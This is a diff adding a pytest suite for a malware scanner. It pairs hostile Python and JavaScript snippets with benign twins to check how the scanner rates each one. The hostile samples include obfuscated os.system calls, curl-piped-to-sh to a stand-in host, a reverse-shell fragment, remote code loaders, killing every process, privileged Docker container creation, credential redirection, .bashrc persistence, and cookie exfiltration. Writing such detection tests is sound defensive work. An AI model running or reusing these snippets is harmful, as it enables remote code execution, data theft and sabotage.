@@ -1,0 +1,305 @@
+"""Detours by which Python files run what no line of theirs names, and what they do to the machine; each beside its twin."""
+
+import json
+
+import pytest
+
+from budmodel_scanner.verdict import Verdict
+from tests.unit.budmodel_scanner.text_examination import at_most_cpu_seconds, rules_of, verdict_of_text
+
+NAMED_ELSEWHERE = """
+class Base:
+    kinds = ('a', 'subprocess', 'check_output')
+    def __init_subclass__(cls, **k):
+        m = __import__(cls.kinds[1])
+        getattr(m, cls.kinds[2])(cls.text.split())
+---
+class Field:
+    module = 'os'
+    function = 'system'
+    def __set_name__(self, owner, name):
+        getattr(__import__(self.module), self.function)(name)
+---
+from functools import reduce
+import importlib
+def register(*names, backend='os.system'):
+    mod, fn = backend.rsplit('.', 1)
+    def deco(cls):
+        reduce(getattr, [fn], importlib.import_module(mod))(''.join(vars(cls)))
+    return deco
+---
+import importlib
+class Registry:
+    def __class_getitem__(cls, item):
+        m, _, n = item.partition(':')
+        return getattr(importlib.import_module(m), n)
+Registry['os:system']('id')
+---
+import pydoc
+HOOKS = {'start': 'subprocess.getoutput'}
+def f(k, c): pydoc.locate(HOOKS[k])(c)
+---
+from functools import partial
+from operator import attrgetter
+import os
+run = partial(attrgetter('system'), os)
+---
+from operator import methodcaller
+import os
+list(map(methodcaller('system', 'id'), [os]))
+---
+import types, os
+n = types.SimpleNamespace(**vars(os))
+def f(k, c): n.__dict__[k](c)
+---
+import os
+d = dict(os.__dict__)
+def f(k, c): d[k](c)
+---
+import inspect
+inspect.currentframe().f_builtins['eval'](x)
+---
+import gc
+for o in gc.get_objects():
+    if getattr(o, '__name__', '') == 'sys' + 'tem':
+        o('id')
+---
+import sys
+[m for n, m in sys.modules.items() if n == 'os'][0].system('id')
+---
+class D:
+    def __get__(s, o, t): return __import__('o' + s.a)
+    a = 's'
+class E:
+    x = D()
+E().x.system('id')
+---
+import ctypes
+def f(): ctypes.CDLL(None).system(b'curl https://x.invalid.net/a | sh')
+---
+import importlib.abc, importlib.machinery, pathlib, sys
+class Loader(importlib.abc.SourceLoader):
+    def get_filename(self, n): return n
+    def get_data(self, p):
+        raw = pathlib.Path(p).read_bytes()
+        return raw[raw.index(b'IEND') + 8:]
+class Finder(importlib.abc.MetaPathFinder):
+    def find_spec(self, name, path, target=None):
+        return importlib.machinery.ModuleSpec(name, Loader('assets/' + name + '.png'))
+sys.meta_path.append(Finder())
+"""
+FETCHED = """
+import sys, io, zipfile, urllib.request
+def load(u):
+    z = zipfile.ZipFile(io.BytesIO(urllib.request.urlopen(u).read()))
+    z.extractall('/opt/x/lib')
+    sys.path.append('/opt/x/lib')
+---
+import urllib.request, zipimport, tempfile, os
+def load(u):
+    p = os.path.join(tempfile.gettempdir(), 'a.zip')
+    urllib.request.urlretrieve(u, p)
+    zipimport.zipimporter(p).load_module('x')
+---
+import sys, shutil, requests
+def load(u):
+    r = requests.get(u, stream=True)
+    with open('a.tgz', 'wb') as o:
+        shutil.copyfileobj(r.raw, o)
+    shutil.unpack_archive('a.tgz', 'lib')
+    sys.path.insert(0, 'lib')
+---
+import importlib.util, requests
+def load(u, d):
+    with open(d / 'ext', 'wb') as o:
+        for piece in requests.get(u, stream=True).iter_content():
+            o.write(piece)
+    return importlib.util.spec_from_file_location('ext', d)
+"""
+DEEDS = """
+import psutil
+for p in psutil.process_iter():
+    p.kill()
+---
+import psutil, os
+def f():
+    for p in psutil.process_iter(['pid']):
+        if p.pid != os.getpid():
+            p.terminate()
+---
+import psutil, os
+[os.kill(p, 9) for p in psutil.pids()]
+---
+import os
+for d in os.listdir('/proc'):
+    if d.isdigit():
+        os.kill(int(d), 9)
+---
+import requests_unixsocket
+s = requests_unixsocket.Session()
+s.post('http+unix://%2Fvar%2Frun%2Fdocker.sock/containers/create', json={'HostConfig': {'Privileged': True}})
+---
+import docker
+def f():
+    c = docker.from_env()
+    c.containers.create('alpine', 'id', privileged=True)
+---
+from celery import Celery
+app = Celery('a', broker='redis://x.invalid.net/0')
+app.conf.update(accept_content=['pickle'], task_serializer='pickle')
+---
+CELERY_ACCEPT_CONTENT = ['json', 'pickle']
+---
+from kombu import serialization
+serialization.enable_insecure_serializers()
+---
+SESSION_SERIALIZER = 'django.contrib.sessions.serializers.PickleSerializer'
+---
+import os, openai
+c = openai.OpenAI(api_key=os.environ['OPENAI_API_KEY'], base_url='https://api.x.invalid.net/v1')
+---
+from huggingface_hub import HfApi, get_token
+def f(): return HfApi(endpoint='https://hf.invalid.net', token=get_token())
+---
+import boto3, os
+s = boto3.client('s3', endpoint_url='https://s3.invalid.net', aws_secret_access_key=os.environ['AWS_SECRET_ACCESS_KEY'])
+---
+from pathlib import Path
+(Path.home() / '.bashrc').open('a').write('python3 x.py &')
+---
+import pathlib
+p = pathlib.Path.home().joinpath('.config', 'systemd', 'user', 'x.service')
+p.write_text('[Service]')
+"""
+ORDINARY = """
+import importlib
+PATH = ('os', 'path')
+KINDS = {'sgd': 'torch.optim.SGD'}
+def f(k):
+    m, _, n = KINDS[k].rpartition('.')
+    return getattr(importlib.import_module(m), n)
+---
+BLOCKED = ['os.system', 'subprocess.run']
+def f(call): return call in BLOCKED
+---
+import platform
+class Runner:
+    system = 'Linux'
+    def f(self):
+        return platform.system() == self.system
+---
+from operator import attrgetter, methodcaller
+def f(a): return sorted(a, key=attrgetter('name')), map(methodcaller('lower'), a), dict(vars(a))
+---
+import importlib.abc, importlib.machinery, sys
+class Loader(importlib.abc.SourceLoader):
+    def get_data(self, p):
+        with open(p, 'rb') as f: return f.read()
+sys.meta_path.append(Loader())
+---
+import os, sys, urllib.request, zipfile, json
+ROOT = os.path.dirname(__file__)
+def f(u, d):
+    urllib.request.urlretrieve(u, os.path.join(ROOT, 'weights.pth'))
+    urllib.request.urlretrieve(u, 'data.zip')
+    zipfile.ZipFile('data.zip').extractall(d)
+    sys.path.insert(0, ROOT)
+    return json.load(open(os.path.join(d, 'a.json')))
+---
+import psutil
+def f(name):
+    for p in psutil.process_iter(['name']):
+        if p.info['name'] == name:
+            p.kill()
+    return [p for p in psutil.process_iter() if p.name().startswith(name) and p.kill()]
+---
+import docker
+def f(): return docker.DockerClient(base_url='unix://var/run/docker.sock').ping()
+---
+from celery import Celery
+app = Celery('a')
+app.conf.update(accept_content=['json'], task_serializer='json')
+---
+import os
+from openai import OpenAI
+a = OpenAI(api_key=os.environ['OPENAI_API_KEY'], base_url='https://openrouter.ai/api/v1')
+b = OpenAI(api_key=os.environ['MY_API_KEY'], base_url='https://api.x.invalid.net/v1')
+c = OpenAI(api_key=os.environ['OPENAI_API_KEY'], base_url=os.environ['OPENAI_BASE_URL'])
+---
+import pathlib
+p = pathlib.Path.home().joinpath('.config', 'tool', 'x.json')
+p.write_text('{}')
+"""
+CODE, PIPED = "import socket,os;s=socket.socket();os.dup2(s.fileno(),0)", "curl -s https://x.invalid.net/a | sh"
+
+
+@pytest.mark.parametrize("code", "---".join((NAMED_ELSEWHERE, FETCHED, DEEDS)).split("---\n"))
+def test_a_detour_is_flagged(code: str) -> None:
+    assert verdict_of_text("lib/tools.py", code) in {Verdict.SUSPICIOUS, Verdict.MALICIOUS}
+
+
+@pytest.mark.parametrize("code", ORDINARY.split("---\n"))
+def test_its_ordinary_twin_is_safe(code: str) -> None:
+    assert verdict_of_text("lib/tools.py", code) is Verdict.SAFE, rules_of("lib/tools.py", code)
+
+
+def turned(text: str) -> str:
+    letters = "abcdefghijklmnopqrstuvwxyz"
+    return text.translate(str.maketrans(letters, letters[13:] + letters[:13]))
+
+
+@pytest.mark.parametrize("written", [turned(CODE), turned(PIPED), CODE[::-1], PIPED[::-1], turned(PIPED)[::-1]])
+def test_what_stands_backwards_or_in_turned_letters_is_read(written: str) -> None:
+    cell: dict[str, object] = {
+        "cell_type": "code",
+        "source": [f"f({written!r})\n"],
+        "outputs": [],
+        "metadata": {},
+        "execution_count": None,
+    }
+    notebook = json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
+    texts = {"a.py": f"X = 1\nD = '''\nWords.\n{written}\n'''\n", "a.json": json.dumps({"a": written}), "a.ipynb": notebook}
+    for name, text in texts.items():
+        assert verdict_of_text(name, text) is Verdict.SUSPICIOUS, name
+
+
+@pytest.mark.parametrize("text", ["Gur Mra bs Clguba", "import this", "curl up with a book", "the slaves of the enclave"])
+def test_turned_prose_is_safe(text: str) -> None:
+    for written in (turned(text), text[::-1]):
+        assert verdict_of_text("a.json", json.dumps({"a": written})) is Verdict.SAFE
+        assert verdict_of_text("a.txt", f"{written}\n" * 50) is Verdict.SAFE
+
+
+def test_a_cell_runs_by_another_name_of_its_shell() -> None:
+    code = "ip = get_ipython()\nip.events.register('post_run_cell', lambda r: ip.getoutput('tar cz /d | curl -T - {}'))"
+    assert verdict_of_text("a.py", code.format("https://x.invalid.net")) is not Verdict.SAFE
+    assert verdict_of_text("a.py", "ip = get_ipython()\nip.events.register('post_run_cell', f)") is Verdict.SAFE
+
+
+HOSTILE_PAGES = [
+    "new Image().src = 'https://x.invalid.net/?c=' + document.cookie",
+    "const t = localStorage.getItem('k');\nwindow.open(`https://x.invalid.net/?t=${t}`)",
+    "u = 'https://x.invalid.net/?'.concat(btoa(sessionStorage.k))",
+]
+ORDINARY_PAGES = [
+    "const t = localStorage.getItem('theme'); setTheme('/theme?x=' + t)",
+    "var s = document.cookie; u = 'https://www.google-analytics.com/x?' + s",
+    "localStorage.setItem('a', 'https://x.invalid.net/' + b)",
+]
+
+
+@pytest.mark.parametrize("script", HOSTILE_PAGES)
+def test_a_page_that_tells_what_the_browser_keeps_is_flagged(script: str) -> None:
+    assert verdict_of_text("a.html", f"<!DOCTYPE html><html><script>{script}</script></html>") is Verdict.SUSPICIOUS
+
+
+@pytest.mark.parametrize("script", ORDINARY_PAGES)
+def test_a_page_that_keeps_it_is_safe(script: str) -> None:
+    assert verdict_of_text("a.html", f"<!DOCTYPE html><html><script>{script}</script></html>") is Verdict.SAFE
+
+
+@pytest.mark.cost
+@pytest.mark.parametrize("text", ["ptth:'x" * 100_000, "a=document.cookie;'https://cdn.plot.ly/'+b;" * 10_000])
+def test_long_texts_cost_little(text: str) -> None:
+    with at_most_cpu_seconds(20):
+        verdict_of_text("a.html", f"<html><script>{text}</script></html>")
